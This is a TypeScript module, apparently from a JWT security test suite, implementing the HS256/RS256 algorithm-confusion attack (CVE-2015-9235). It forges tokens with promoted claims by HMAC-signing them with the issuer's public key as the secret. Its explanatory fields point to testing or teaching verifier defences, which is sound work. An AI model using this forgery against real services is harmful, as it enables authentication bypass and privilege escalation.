import { createHmac } from 'node:crypto';
import { type Attack } from './attack';
import { partsOf, promoted, signingInput } from './forged-token';
import { withToken } from './with-token';

/** CVE-2015-9235; RFC 8725, section 2.1. */
export const hsRsConfusion: Attack = {
  name: 'hs-rs-confusion',
  title: 'The public key as a shared secret',
  explanation:
    'The public key is published, and everybody has it. The header says HS256, and the token is signed by HMAC with ' +
    'the text of that key. A verifier with one function for both kinds of key takes it for the secret.',
  why: 'Each key is bound to one algorithm, and no issuer with a key set has any with a shared secret.',
  async run(attacker) {
    const { header, claims } = partsOf(attacker.token);
    const key = (await attacker.supplies.keySet(attacker.signal)).get(String(header.kid));
    const input = signingInput({ header: { ...header, alg: 'HS256' }, claims: promoted(claims) });
    // What is lost by a rotation in this very moment is the key; the attack is the same with an empty one.
    const secret = key?.export({ format: 'pem', type: 'spki' }) ?? '';
    return withToken(attacker, `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`);
  },
};
